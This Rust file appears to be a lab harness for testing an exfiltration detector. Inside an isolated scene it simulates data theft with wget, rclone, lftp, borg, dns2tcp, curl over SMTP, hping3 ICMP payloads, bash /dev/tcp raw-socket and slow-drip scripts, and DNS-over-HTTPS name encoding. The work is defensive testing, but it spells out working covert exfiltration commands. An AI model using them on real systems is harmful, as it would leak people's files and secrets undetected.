//! Thefts by tools that training has not seen.

use std::fs;
use std::time::Duration;

use anyhow::{Context, Result, ensure};
use detector_tests::{poll_until, wait_for_tcp_listener, wait_for_udp_listener};

use super::ways;
use crate::lab::loot;
use crate::lab::random::Random;
use crate::lab::scene::{DOH_PORT, Outcome, SINK_PORT, Scene, Target, ensure_arrived, resolver};
use crate::lab::sites::THIEF_NAME_SERVER;
use crate::lab::tools::ftp::{self, CONTROL_PORT};
use crate::lab::tools::mail;
use crate::lab::tools::tunnel;
use crate::lab::tools::upload::folder_bytes;

const START: Duration = Duration::from_secs(15);
const POST_PORT: u16 = 8088;
const MAIL_PORT: u16 = 26;
const RAW_PORTS: [u16; 3] = [8883, 3389, 2049];
const DNS2TCP_PORT: u16 = 8888;
const DRIP_SECS: f64 = 45.0;

/// A few kilobytes to a bare address.
pub(in crate::lab) fn wget(scene: &Scene<'_>, random: &mut Random) -> Result<Outcome> {
    let mut target = scene.named_target(random)?;
    target.host = target.address.to_string();
    let log = scene.scratch.join("sink.log").display().to_string();
    let _server = scene.start_script(scene.internet(), "sink.py", &[POST_PORT.to_string(), log])?;
    wait_for_tcp_listener(scene.internet(), POST_PORT, START)?;
    let found = loot::small(random);
    let file = format!("--post-file={}", scene.document(&found.name, &found.bytes)?);
    let url = format!("http://{}:{POST_PORT}/up/{}", target.host, random.word(7));
    scene.run("wget", &["--quiet", "--output-document=/dev/null", &file, &url])?;
    let bytes = found.bytes.len();
    ensure_arrived(bytes, scene.sunk_bytes("/up/")?)?;
    let culprit = scene.culprit(&target, "tcp", Some(POST_PORT))?;
    Ok(Outcome::stolen(culprit, bytes, format!("{bytes} bytes to {url}")))
}

pub(in crate::lab) fn rclone(scene: &Scene<'_>, random: &mut Random) -> Result<Outcome> {
    let _server = ways::webdav(scene)?;
    let target = scene.named_target(random)?;
    let bytes = random.size(60_000, 18_000_000);
    let folder = ways::folder(scene, random, "stolen", bytes)?;
    let port = ways::rclone(scene, &target, &folder, ":webdav:drop")?;
    ensure_arrived(bytes, folder_bytes(&scene.inbox("drop"))?)?;
    let culprit = scene.culprit(&target, "tcp", Some(port))?;
    Ok(Outcome::stolen(culprit, bytes, format!("{bytes} bytes to {}", target.host)))
}

pub(in crate::lab) fn lftp_sftp(scene: &Scene<'_>, random: &mut Random) -> Result<Outcome> {
    let _server = ways::sshd(scene)?;
    let target = scene.named_target(random)?;
    let bytes = random.size(60_000, 18_000_000);
    let file = scene.document("stolen", &random.document(bytes))?;
    let got = scene.inbox("got");
    let limit = random.between(300_000, 3_000_000);
    let commands = format!("set net:limit-total-rate 0:{limit}; put {file} -o {}", got.display());
    ways::lftp_sftp(scene, &target, &commands)?;
    ensure_arrived(bytes, fs::metadata(&got).context("nothing arrived")?.len() as usize)?;
    let culprit = scene.culprit(&target, "tcp", Some(ways::SFTP_PORT))?;
    Ok(Outcome::stolen(culprit, bytes, format!("{bytes} bytes at {limit} B/s to {}", target.host)))
}

pub(in crate::lab) fn borg(scene: &Scene<'_>, random: &mut Random) -> Result<Outcome> {
    let target = scene.named_target(random)?;
    let bytes = random.size(200_000, 12_000_000);
    let folder = ways::folder(scene, random, "stolen", bytes)?;
    ways::borg(scene, &target, &folder, "first")?;
    let held = folder_bytes(&scene.inbox("borg"))?;
    ensure!(held >= bytes, "{bytes} bytes were sent and the repository holds {held}");
    let culprit = scene.culprit(&target, "tcp", Some(22))?;
    Ok(Outcome::stolen(culprit, bytes, format!("{bytes} bytes to {}", target.host)))
}

pub(in crate::lab) fn dns2tcp(scene: &Scene<'_>, random: &mut Random) -> Result<Outcome> {
    let through = if random.chance(0.3) { THIEF_NAME_SERVER } else { resolver(random) };
    let zone = &scene.thief_zone;
    let configuration = format!(
        "listen = {THIEF_NAME_SERVER}\nport = 53\ndomain = {zone}\nresources = up:127.0.0.1:{SINK_PORT}\n"
    );
    let configuration = scene.document("dns2tcpd.conf", configuration.as_bytes())?;
    let server = scene.internet().spawn("dns2tcpd", ["-F", "-d", "1", "-f", &configuration])?;
    wait_for_udp_listener(scene.internet(), 53, START)?;
    let kind = *random.pick(&["TXT", "KEY"]);
    let port = DNS2TCP_PORT.to_string();
    let client = scene
        .client()
        .spawn("dns2tcpc", ["-d", "1", "-r", "up", "-z", zone, "-l", &port, "-T", kind, through])?;
    wait_for_tcp_listener(scene.client(), DNS2TCP_PORT, START)?;
    let bytes = random.size(5_000, 60_000);
    let body = format!("@{}", scene.document("stolen", &random.document(bytes))?);
    let url = format!("http://127.0.0.1:{DNS2TCP_PORT}/up/tunnel");
    scene
        .run(
            "curl",
            &["--silent", "--show-error", "--output", "/dev/null", "--data-binary", &body, &url],
        )
        .with_context(|| format!("through {through}: {} {}", client.output(), server.output()))?;
    ensure_arrived(bytes, scene.sunk_bytes("/up/tunnel")?)?;
    let target =
        Target { host: through.to_owned(), address: through.parse().context("no address")? };
    let culprit = scene.culprit(&target, "udp", Some(53))?;
    Ok(Outcome::stolen(
        culprit,
        bytes,
        format!("{bytes} bytes in {kind} for {zone} through {through}"),
    ))
}

/// curl hands the stealer's message in, at a port that no training has.
pub(in crate::lab) fn mail(scene: &Scene<'_>, random: &mut Random) -> Result<Outcome> {
    let target = scene.named_target(random)?;
    let _server = mail::serve(scene, &[MAIL_PORT])?;
    let length = random.size(500, 40_000);
    let found = loot::text(random, length);
    let own = format!("{}@{}", random.word(8), target.host);
    let head = format!("From: {own}\r\nTo: {own}\r\nSubject: Recovered {}\r\n\r\n", random.word(6));
    let text = String::from_utf8_lossy(&found.bytes).replace('\n', "\r\n");
    let file = scene.document("message", (head + &text).as_bytes())?;
    let url = format!("smtp://{}:{MAIL_PORT}/client", target.address);
    let login = format!("{own}:correct-horse");
    let arguments = [
        "--silent",
        "--show-error",
        "--mail-from",
        &own,
        "--mail-rcpt",
        &own,
        "--user",
        &login,
        "--upload-file",
        &file,
        &url,
    ];
    scene.run("curl", &arguments)?;
    mail::ensure_delivered(scene, 1, length)?;
    let culprit = scene.culprit(&target, "tcp", Some(MAIL_PORT))?;
    Ok(Outcome::stolen(culprit, length, format!("{length} bytes to {own}")))
}

pub(in crate::lab) fn lftp_ftp(scene: &Scene<'_>, random: &mut Random) -> Result<Outcome> {
    let target = scene.named_target(random)?;
    let passive = random.between(10_000, 30_000) as u16;
    let _server = ftp::serve(scene, passive, 1)?;
    let found = loot::small(random);
    let file = scene.document(&found.name, &found.bytes)?;
    ways::lftp_ftp(scene, &target, &format!("put {file}"))?;
    let arrived = fs::metadata(scene.inbox(&found.name)).context("nothing arrived")?.len() as usize;
    ensure_arrived(found.bytes.len(), arrived)?;
    let culprit = scene.culprit(&target, "tcp", Some(passive))?;
    Ok(Outcome::stolen(culprit, arrived, format!("{arrived} bytes to {}", target.host))
        .with_control(CONTROL_PORT))
}

/// hping3 fills echo requests from a file; what was answered has arrived.
pub(in crate::lab) fn hping(scene: &Scene<'_>, random: &mut Random) -> Result<Outcome> {
    let target = scene.named_target(random)?;
    let (chunk, count) = (random.between(20, 400), random.between(8, 120));
    let file = scene.document("stolen", &random.document((chunk * count) as usize))?;
    let [chunk_text, count_text] = [chunk.to_string(), count.to_string()];
    let pause = format!("u{}", random.between(20_000, 90_000));
    let address = target.address.to_string();
    let arguments = [
        "--icmp",
        "--quiet",
        "-c",
        &count_text,
        "-d",
        &chunk_text,
        "-E",
        &file,
        "-i",
        &pause,
        &address,
    ];
    let output = scene.run_with_status("hping3", &arguments, &[0, 1])?;
    let answered = output
        .lines()
        .find_map(|line| {
            line.split_once(" packets transmitted, ")?.1.split(' ').next()?.parse::<u64>().ok()
        })
        .with_context(|| format!("hping3 does not say what was answered: {output}"))?;
    ensure!(answered * 20 >= count * 19, "{answered} of {count} requests were answered");
    let culprit = scene.culprit(&target, "icmp", None)?;
    let notes = format!("{answered} payloads of {chunk} bytes to {}", target.host);
    Ok(Outcome::stolen(culprit, (answered * chunk) as usize, notes))
}

/// A shell alone: its own way to open a connection.
pub(in crate::lab) fn shell(scene: &Scene<'_>, random: &mut Random) -> Result<Outcome> {
    let bytes = random.size(30_000, 15_000_000);
    by_shell(scene, random, bytes, "cat \"$3\" > /dev/tcp/$1/$2", &[])
}

/// The same, drop by drop.
pub(in crate::lab) fn shell_drip(scene: &Scene<'_>, random: &mut Random) -> Result<Outcome> {
    let pause_secs = random.uniform(0.8, 4.0);
    let drops = (DRIP_SECS / pause_secs) as usize;
    let drop = random.between(3, 600) as usize;
    let script = "exec 3> /dev/tcp/$1/$2; i=0; while [ $i -lt $5 ]; do dd if=\"$3\" bs=$4 skip=$i count=1 status=none >&3; sleep $6; i=$((i+1)); done";
    let more = [drop.to_string(), drops.to_string(), format!("{pause_secs:.2}")];
    by_shell(scene, random, drop * drops, script, &more)
}

fn by_shell(
    scene: &Scene<'_>,
    random: &mut Random,
    bytes: usize,
    script: &str,
    more: &[String],
) -> Result<Outcome> {
    let target = scene.named_target(random)?;
    let port = *random.pick(&RAW_PORTS);
    let got = scene.inbox("got");
    let receive = format!("ncat --recv-only -l {port} > {}", got.display());
    let _receiver = scene.internet().spawn("sh", ["-c", &receive])?;
    wait_for_tcp_listener(scene.internet(), port, START)?;
    let file = scene.document("stolen", &random.document(bytes))?;
    let address = target.address.to_string();
    let port_text = port.to_string();
    let more: Vec<&str> = more.iter().map(String::as_str).collect();
    scene
        .run("bash", &[&["-c", script, "bash", &address, &port_text, &file], &more[..]].concat())?;
    let arrived = || fs::metadata(&got).map_or(0, |file| file.len() as usize);
    poll_until(START, || (arrived() >= bytes).then_some(())).ok();
    ensure_arrived(bytes, arrived())?;
    let culprit = scene.culprit(&target, "tcp", Some(port))?;
    Ok(Outcome::stolen(
        culprit,
        bytes,
        format!("{bytes} bytes to {address}:{port}, {}", more.join(" ")),
    ))
}

/// kdig asks a resolver over HTTPS, a connection for each name.
pub(in crate::lab) fn kdig(scene: &Scene<'_>, random: &mut Random) -> Result<Outcome> {
    let target = scene.named_target(random)?;
    let log = scene.scratch.join("names.log").display().to_string();
    let serve = ["serve".to_owned(), DOH_PORT.to_string(), log.clone()];
    let _server = scene.start_script(scene.internet(), "doh.py", &serve)?;
    wait_for_tcp_listener(scene.internet(), DOH_PORT, START)?;
    let document = random.document(random.clone().size(1_500, 6_000));
    let server = format!("@{}", target.address);
    for (number, bytes) in document.chunks(90).enumerate() {
        let digits: String = bytes.iter().map(|byte| format!("{byte:02x}")).collect();
        let labels: Vec<&str> = digits
            .as_bytes()
            .chunks(60)
            .filter_map(|label| std::str::from_utf8(label).ok())
            .collect();
        let name = format!("{}.{number}.{}", labels.join("."), scene.thief_zone);
        scene.run("kdig", &["+https", "+short", &server, &name, "TXT"])?;
    }
    let names = fs::read_to_string(&log).context("nobody asked the resolver")?;
    ensure_arrived(document.len().div_ceil(90), names.lines().count())?;
    let culprit = scene.culprit(&target, "tcp", Some(443))?;
    Ok(Outcome::stolen(
        culprit,
        document.len(),
        format!("{} bytes to {}", document.len(), target.host),
    ))
}

pub(in crate::lab) fn openvpn(scene: &Scene<'_>, random: &mut Random) -> Result<Outcome> {
    let tunnel = tunnel::openvpn(scene, random)?;
    let bytes = random.size(60_000, 9_000_000);
    tunnel.upload(scene, random, bytes)?;
    Ok(Outcome::stolen(
        tunnel.culprit(scene)?,
        bytes,
        format!("{bytes} bytes through {}", tunnel.host()),
    ))
}
